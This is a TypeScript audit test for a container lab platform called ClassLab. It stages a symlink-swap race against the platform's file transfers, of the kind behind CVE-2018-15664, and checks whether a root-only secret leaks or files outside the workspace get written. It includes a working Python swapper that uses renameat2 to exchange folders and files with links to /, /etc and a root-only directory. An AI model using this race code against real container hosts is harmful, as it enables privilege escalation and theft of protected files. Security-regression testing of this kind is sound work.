// Attack 18: a link swapped in while ClassLab transfers files (the CVE-2018-15664 class: Docker's archive
// API walks the path as root, so a link swapped in mid-walk made root read or write anywhere). A student
// process exchanges, in a tight loop, the folders and the file a transfer walks with links to a folder
// only root can read (a secret waits there), to /etc and to / (where an upload would land if root wrote
// it), while ClassLab uploads and downloads through its own Files code (files/lab-files.ts). ClassLab's
// transfers run `tar` as the lab user (workspace/transfer.ts), so the race can only lead them where the
// student could go anyway. Blocked when the swapper really swapped many times, no download carried the
// secret, and nothing outside the workspace was written by anyone but the student.
import { randomBytes } from 'node:crypto';
import type { Readable } from 'node:stream';
import { LabFiles } from '../../files/lab-files';
import { packTar } from '../../workspace/tar';
import type { AuditLab } from '../lab';
import type { AttackResult, AuditAttack, AuditContext } from '../types';

/**
 * The student's swapper (python3, as the lab user): renameat2(RENAME_EXCHANGE) of each target with a link,
 * and back, until /tmp/swap-stop exists; the count of successful exchanges goes to /tmp/swaps. Falls back
 * to mv -T pairs when renameat2 is missing. argv: the workspace.
 */
export const SWAPPER = String.raw`
import ctypes, os, sys
ws = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
try:
    r2 = libc.renameat2
    def ex(a, b):
        return r2(-100, a.encode(), -100, b.encode(), 2) == 0
except AttributeError:
    def ex(a, b):
        try:
            os.rename(a, a + '.t'); os.rename(b, a); os.rename(a + '.t', b); return True
        except OSError:
            return False
inc = ws + '/.classlab/incoming'
def link(target, at):
    try:
        os.symlink(target, at)
    except OSError:
        pass
os.makedirs('/tmp/fake', exist_ok=True)
link('/tmp/rootonly', ws + '/lnk-root')
link('/tmp/rootonly/data.txt', ws + '/lnk-secret')
link('/', ws + '/.classlab/lnk-slash')
link('/tmp/fake', ws + '/.classlab/lnk-fake')
n = 0
i = 0
while not os.path.exists('/tmp/swap-stop'):
    i += 1
    pairs = [(ws + '/dl', ws + '/lnk-root'), (ws + '/dl/data.txt', ws + '/lnk-secret'), (ws + '/.classlab/incoming', ws + '/.classlab/lnk-fake')]
    try:
        for name in os.listdir(inc):
            if name.endswith('.x'):
                continue
            link(('/tmp/rootonly', '/etc')[n % 2], inc + '/' + name + '.x')
            link('/', '/tmp/fake/' + name)
            pairs.append((inc + '/' + name, inc + '/' + name + '.x'))
    except OSError:
        pass
    for a, b in pairs:
        if ex(a, b):
            n += 1
            if ex(a, b):
                n += 1
    if i % 200 == 0:
        with open('/tmp/swaps.t', 'w') as f:
            f.write(str(n))
        os.replace('/tmp/swaps.t', '/tmp/swaps')
with open('/tmp/swaps', 'w') as f:
    f.write(str(n))
`;

/** A secret the size of the file being downloaded, so that no size check alone can give it away. */
export const DATA_SIZE = 64;

export interface RaceOutcome {
  swaps: number;
  uploads: { ok: number; refused: number; failed: string[] };
  downloads: { ok: number; refused: number; failed: string[] };
  leakedSecret: number;
  /** Files outside the workspace, made during the race, owned by someone other than the lab user. */
  outside: string[];
}

/** A transfer the race made fail: the student's own rights (or a check) stopped it; nothing leaked. */
function stoppedSafely(err: unknown): boolean {
  const code = (err as { code?: string }).code;
  if (code === 'REFUSED' || code === 'PATH_INVALID' || code === 'NOT_FOUND' || code === 'BUSY' || code === 'EXISTS') return true;
  if ((err as Error).name === 'HostileArchiveError') return true;
  // tar, as the lab user, was denied (a link to /etc or a root-only folder) or found a path gone;
  // The move into place, as the lab user, met a swapped staging folder the same way.
  return /could not be unpacked|tar in the lab failed|Could not put .* in place|file operation "commit" failed/.test((err as Error).message ?? '');
}

async function bytesOf(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream as AsyncIterable<Buffer>) chunks.push(c);
  return Buffer.concat(chunks);
}

/** Runs the race for `seconds` through `files` (ClassLab's Files code) on a running lab. */
export async function raceTransfers(lab: AuditLab, files: LabFiles, seconds: number): Promise<RaceOutcome> {
  const ws = lab.profile.server.workspace;
  const secret = `ROOT-SECRET-${randomBytes(8).toString('hex')}`.padEnd(DATA_SIZE, '!');
  const tag = randomBytes(4).toString('hex');
  const prep = await lab.sh(
    `mkdir -p /tmp/rootonly && chmod 700 /tmp/rootonly && printf '%s' '${secret}' > /tmp/rootonly/data.txt && chmod 600 /tmp/rootonly/data.txt && rm -f /tmp/swap-stop /tmp/swaps /tmp/swaps.t && touch /tmp/race-start`,
    { user: '0:0', timeoutSeconds: 20 },
  );
  const mine = await lab.sh(`mkdir -p "${ws}/dl" "${ws}/.classlab/incoming" && printf '%s' '${'d'.repeat(DATA_SIZE)}' > "${ws}/dl/data.txt"`, {
    timeoutSeconds: 20,
  });
  if (prep.code !== 0 || mine.code !== 0) throw new Error(`could not prepare the race: ${prep.out} ${mine.out}`);
  await lab.exec(['python3', '-c', SWAPPER, ws], { detach: true, timeoutSeconds: seconds + 60 });
  const outcome: RaceOutcome = {
    swaps: 0,
    uploads: { ok: 0, refused: 0, failed: [] },
    downloads: { ok: 0, refused: 0, failed: [] },
    leakedSecret: 0,
    outside: [],
  };
  const until = Date.now() + seconds * 1000;
  const tally = (side: RaceOutcome['uploads'], err: unknown) => {
    if (stoppedSafely(err)) side.refused += 1;
    else side.failed.push(`${(err as { code?: string }).code ?? '?'}: ${(err as Error).message}`.slice(0, 160));
  };
  const uploads = (async () => {
    for (let i = 0; Date.now() < until; i++) {
      const name = `race-${tag}-${i}.txt`;
      try {
        const { upload } = await files.plan({ dir: '', entries: [{ path: name, kind: 'file', size: 5 }] });
        await files.upload(upload, 'keep-both', packTar([{ path: name, kind: 'file', data: 'safe\n' }]), new AbortController().signal);
        outcome.uploads.ok += 1;
      } catch (err) {
        tally(outcome.uploads, err);
      }
    }
  })();
  const downloads = (async () => {
    for (let i = 0; Date.now() < until; i++) {
      try {
        const what = await files.describe(i % 2 ? 'dl' : 'dl/data.txt', 'linux');
        const got = await bytesOf((await files.download(what, new AbortController().signal, 'linux')).stream);
        if (got.includes(secret.slice(0, 28))) outcome.leakedSecret += 1;
        outcome.downloads.ok += 1;
      } catch (err) {
        tally(outcome.downloads, err);
      }
    }
  })();
  await Promise.all([uploads, downloads]);
  await lab
    .sh('touch /tmp/swap-stop; sleep 1; cat /tmp/swaps', { timeoutSeconds: 10 })
    .then((r) => (outcome.swaps = Number(r.out.trim().split('\n').pop()) || 0));
  // As root: every file made since the race began, outside the workspace, that the lab user does not own
  // (the student's own /tmp is the student's; a root-owned file there, or anywhere, would be an escape).
  // Folders are left out: /tmp is root's, and its time changes whenever the student adds to it.
  const uid = lab.profile.server.user.split(':')[0];
  const found = await lab.sh(
    `find / \\( -path /proc -o -path /sys -o -path /dev -o -path '${ws}' \\) -prune -o \\( -newer /tmp/race-start -o -name 'race-${tag}-*' \\) ! -uid ${uid} ! -type d -print 2>/dev/null | head -5; true`,
    { user: '0:0', timeoutSeconds: 60 },
  );
  outcome.outside = found.out.split('\n').filter(Boolean);
  return outcome;
}

async function linkSwap(ctx: AuditContext): Promise<AttackResult[]> {
  const files = new LabFiles(() => ctx.docker, ctx.lab.containers, ctx.log);
  try {
    const r = await raceTransfers(ctx.lab, files, 10);
    const tried = r.swaps >= 1000 && r.uploads.ok + r.downloads.ok > 0;
    const blocked = tried && r.leakedSecret === 0 && r.outside.length === 0;
    return [
      {
        attack: '18. Transfer link swap (a folder or file of the path swapped for a link to /, /etc or a root-only folder mid-transfer)',
        blocked,
        evidence:
          `${r.swaps} swaps during ${r.uploads.ok + r.uploads.refused + r.uploads.failed.length} uploads (${r.uploads.ok} kept, ${r.uploads.refused} refused) and ` +
          `${r.downloads.ok + r.downloads.refused + r.downloads.failed.length} downloads (${r.downloads.ok} served, ${r.downloads.refused} refused); ` +
          `${r.leakedSecret ? `the root-only secret LEAKED in ${r.leakedSecret} download(s)` : 'the root-only secret never came out'}; ` +
          `${r.outside.length ? `written OUTSIDE the workspace, not as the student: ${r.outside.join(', ')}` : 'nothing outside the workspace was written but as the student (transfers run tar as the lab user)'}` +
          `${tried ? '' : ' (the race did not really run: too few swaps or no transfer got through)'}` +
          `${r.uploads.failed.length + r.downloads.failed.length ? `; other failures: ${[...r.uploads.failed, ...r.downloads.failed].slice(0, 2).join('; ')}` : ''}.`,
      },
    ];
  } finally {
    files.dispose();
  }
}

export const transferRaceAttacks: AuditAttack[] = [{ id: 'transfer-link-swap', number: 18, run: linkSwap }];
